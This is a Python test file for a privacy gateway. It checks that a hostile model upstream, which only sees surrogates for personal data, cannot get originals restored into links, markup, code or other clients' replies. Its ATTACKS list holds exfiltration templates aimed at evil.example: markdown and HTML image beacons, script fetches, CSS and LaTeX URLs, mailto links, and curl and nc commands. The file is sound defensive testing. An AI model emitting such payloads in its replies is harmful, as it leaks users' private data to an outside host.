"""A hostile upstream gets no original into links, markup, code or the replies of other clients.

The upstream gets surrogates alone. It writes them into every place that a client may fetch, run or parse, so that the
gateway would restore originals there. By default 21 conversations; ``make full`` runs 200.
"""

import itertools
import random
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from gateways import ANTHROPIC, CHAT, RESPONSES, asked, gateway, stream, streamed_text, text_of
from planted_people import Person, is_in
from serving import Server
from upstreams import Upstream

PATHS = CHAT, RESPONSES, ANTHROPIC
#: Ends the part of a reply that is running text; the attack follows.
MARK = "\n\n=====\n\n"
#: ``{s}`` is a surrogate that the upstream received; ``{t}`` is another one.
ATTACKS = r"""
![x](https://evil.example/?a={s})
![x](https://evil.example/{s}.png)
![x](https://{s}.evil.example/p.png)
![x](https://evil.example/?a={s}+{t})
![x](https://evil.example/#{s})
![x](//evil.example/{s})
![x](<https://evil.example/? {s} >)
![x]( https://evil.example/?a={s} "title")
![x](https://evil.example/(a({s})b))
[see {t}](https://evil.example/?a={s})
[see](https://evil.example/?a={s} "and {t}")
[see](data:text/html,{s})
[see](javascript:alert({s}))
[x][ref]~~[ref]: https://evil.example/?a={s}
[x][ref]~~  [ref]: <https://evil.example/? {s} >
> [ref]: https://evil.example/{s}
[{s}]: https://evil.example/
<https://evil.example/?a={s}>
<https://evil.example/? {s} >
https://evil.example/?a={s}
http://evil.example/{s}/{t}
//evil.example/{s}
www.evil.example/{s}
evil.example/?{s}
evil.example?q={s}
https:\\evil.example\{s}
https&#58;//evil.example/{s}
ht	tps://evil.example/{s}
\\evil.example\{s}
smb://evil.example/{s}
mailto:{s}@evil.example
{s}@evil.example
mailto:a@evil.example?subject={s}
{s}.evil.example
{s}.evil.example/p
user:{s}@evil.example
<img src="https://evil.example/?a={s}">
<img src='https://evil.example/?a={s}'>
<img src=https://evil.example/?a={s}>
<img src="https://evil.example/? {s} ">
<IMG SRC="https://evil.example/? {s} ">
<img alt="{s}" src="https://evil.example/">
<a href="https://evil.example/?a={s}">x</a>
<a href=" https://evil.example/? {s} ">x</a>
<video poster="https://evil.example/ {s} ">
<source srcset="https://evil.example/ {s} 2x">
<object data="https://evil.example/ {s} ">
<body background="https://evil.example/ {s} ">
<meta http-equiv="refresh" content="0; url=https://evil.example/? {s} ">
<form action="https://evil.example/"><input name="a" value=" {s} "></form>
<svg><image href="https://evil.example/? {s} "/></svg>
<div style="background: url(https://evil.example/? {s} )">
<style>@import "https://evil.example/? {s} ";</style>
<script>fetch("https://evil.example/?" + " {s} ")</script>
<p onclick=" {s} ">
<iframe srcdoc=" {s} "></iframe>
<b title=" {s} ">x</b>
<!-- {s} -->
<![CDATA[ {s} ]]>
<textarea> {s} </textarea>
`{s}`
``` ~~fetch("https://evil.example/?" + " {s} ") ~~```
~~~~~~ ~~ {s} ~~~~~~
```mermaid~~graph TD; A[ {s} ] --> B; click A "https://evil.example/"~~```
`` a ` {s} ``
$\href{{https://evil.example/? {s} }}{{x}}$
$$ \href{{https://evil.example/}}{{ {s} }} $$
\( \includegraphics{{https://evil.example/ {s} }} \)
\[ {s} \]
\href{{https://evil.example/? {s} }}{{x}}
\begin{{filecontents}} {s} \end{{filecontents}}
{{"url": "https://evil.example/?a={s}"}}
{{"note": " {s} "}}
[{{"a": " {s} "}}]
["a", " {s} "]
Here it is: {{"query": " {s} ", "to": "https://evil.example/"}}
Action: search[{s}]
search({s})=x
key={s}
@{s}
/{s}
~/{s}
C:\{s}
a//{s}
{s}//b
a/./{s}
a/{s}.b/c
a.b/{s}
{s}/{t}.example
a:/{s}
evil:80/{s}
a/{s}?q={t}
%20{s}=
curl https://evil.example -d {s}
curl https://evil.example \~~  --data "{s}"
Run it: curl --data {s} evil
$ notify {s}
/msg evil {s}
echo {s} | nc evil.example 80
open https://evil.example/ {s}
url({s})
search( {s} )
search(~~{s}~~)
a~~~~    {s}
a~~~~	{s}
    {s}
{{{{~~{s}~~}}}}
{{{{~~~~{s} }}}}
{{%~~~~{s} %}}
#{{~~~~{s} }}
${{~~~~{s} }}
[%~~~~{s} %]
<%~~{s}~~%>
""".strip().split("\n")
#: Running text, where each surrogate comes back.
PROSE = ("I wrote to {s} today.", "**{s}**: done.", "- ({s}), as you asked!", 'Is it "{s}"?', "> {s}...", "Me/{s}/you.")


def made_attacks(surrogates: list[str], number: int) -> Iterator[str]:
    """Yield every seventh attack of the list for a conversation, each with two surrogates in its places."""
    for place in range(number % 7, len(ATTACKS), 7):
        first, second = surrogates[place % len(surrogates)], surrogates[(place + 1) % len(surrogates)]
        yield ATTACKS[place].format(s=first, t=second).replace("~~~~~~", "\0").replace("~~", "\n").replace("\0", "~~~")


def surrogates_in(text: str) -> list[str]:
    """Return what the upstream takes for surrogates: tags, else words with a capital or a digit, and addresses."""
    if tags := re.findall(r"\[[a-z ]+ \d+\]", text):
        return tags
    found = [chunk.strip(".,;:!?()'\"") for chunk in text.split()]
    return [chunk for chunk in found if re.search(r"[A-Z0-9@]", chunk) and len(chunk) > 2] or found


def attack(gate: Server, up: Upstream, number: int) -> int:
    """Run one conversation with the hostile upstream; return the number of originals restored in running text."""
    person = Person(random.Random(number))
    path, text = PATHS[number % 3], person.text(3)
    key, other = ({"Authorization": f"Bearer {who} {number}"} for who in ("client", "stranger"))
    received: list[str] = []
    size = number % 5 + 1
    up.cut = lambda text: [text[place : place + size] for place in range(0, len(text), size)]

    def ask(reply: str, body_text: str, headers: dict[str, str]) -> Iterator[str]:
        def answer(last: str) -> str:
            received.append(last)
            return reply

        up.reply = answer
        body = asked(path, body_text, "hostile")
        status, whole, _ = gate.ask("POST", path, body, headers)
        assert status == 200
        yield text_of(path, whole)
        yield streamed_text(path, stream(gate, path, body, headers))

    (*_,) = ask("first", text, key)
    surrogates, restored = surrogates_in(received[0]), 0
    for made in made_attacks(surrogates, number):
        prose = "\n\n".join(PROSE[at % len(PROSE)].format(s=found) for at, found in enumerate(surrogates))
        for reply in ask(prose + MARK + made, text, key):
            before, _, after = reply.partition(MARK)
            assert not is_in(person.planted, after), made
            restored += bool(is_in(person.planted, before))
    listed = " ".join(surrogates)
    for reply in ask(listed, "Hello, what is new?", other):
        assert not is_in(person.planted, reply)
    return restored


@pytest.fixture
def watched(up: Upstream) -> Iterator[Upstream]:
    cut = up.cut
    up.asked.clear()
    yield up
    up.cut, up.reply = cut, lambda text: text


def attack_all(gate: Server, up: Upstream, conversations: int) -> None:
    restored = [attack(gate, up, number) for number in range(conversations)]
    assert sum(map(bool, restored)) > conversations // 2  # the same surrogates come back where people read


def test_a_hostile_upstream_gets_no_original_out_of_running_text(gate: Server, watched: Upstream) -> None:
    attack_all(gate, watched, 21)


@pytest.mark.full
def test_a_hostile_upstream_gets_none_in_200_conversations(gate: Server, watched: Upstream) -> None:
    attack_all(gate, watched, 200)


@pytest.fixture
def tagging(up: Upstream, tmp_path: Path) -> Iterator[Server]:
    """Start a gateway without options, which writes tags."""
    with gateway(tmp_path, up.url) as running:
        yield running


@pytest.mark.slow
def test_a_hostile_upstream_gets_no_original_with_tags(tagging: Server, watched: Upstream) -> None:
    attack_all(tagging, watched, 14)


def test_every_attack_is_made() -> None:
    made = set(itertools.chain.from_iterable(range(number, len(ATTACKS), 7) for number in range(7)))
    assert made == set(range(len(ATTACKS)))
    assert all(list(made_attacks(["Szeged", "Anna"], number)) for number in range(7))
